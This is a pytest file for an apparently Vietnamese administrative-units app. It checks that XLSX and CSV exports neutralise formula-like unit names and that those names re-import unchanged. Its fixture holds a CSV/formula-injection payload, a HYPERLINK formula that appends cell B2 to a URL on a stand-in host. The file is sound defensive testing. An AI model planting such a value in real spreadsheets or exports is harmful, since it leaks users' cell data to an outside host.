"""A unit name that looks like a formula is exported as text (XLSX and CSV) and imports back unchanged."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from tinhso.core.tabular import read_table
from tinhso.units import services
from tinhso.units.models import Unit, UnitKind

HOSTILE = '=HYPERLINK("http://x.example/?d="&B2,"Xem")'


@pytest.fixture
def hostile_unit(make_unit, province):
    return make_unit(HOSTILE, UnitKind.COMMUNE, province, note="-2+3", stats_code="99999",
                     valid_to=dt.date(2025, 6, 30))


def test_xlsx_export_keeps_a_formula_like_name_as_text(db, hostile_unit):
    content, _, _ = services.export_units("xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value in (HOSTILE, "-2+3")]
    assert len(cells) == 2
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells)


def test_csv_export_prefixes_a_formula_like_name_and_reimports_it(db, root_admin, hostile_unit):
    content, filename, _ = services.export_units("csv")
    fields = [f for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for f in row]
    assert "'" + HOSTILE in fields and "'-2+3" in fields and HOSTILE not in fields
    result = services.import_units(root_admin, read_table(content, filename, services.HEADER_ALIASES))
    assert (result.created, result.updated, result.errors) == (0, 0, [])
    assert Unit.objects.get(pk=hostile_unit.pk).name == HOSTILE
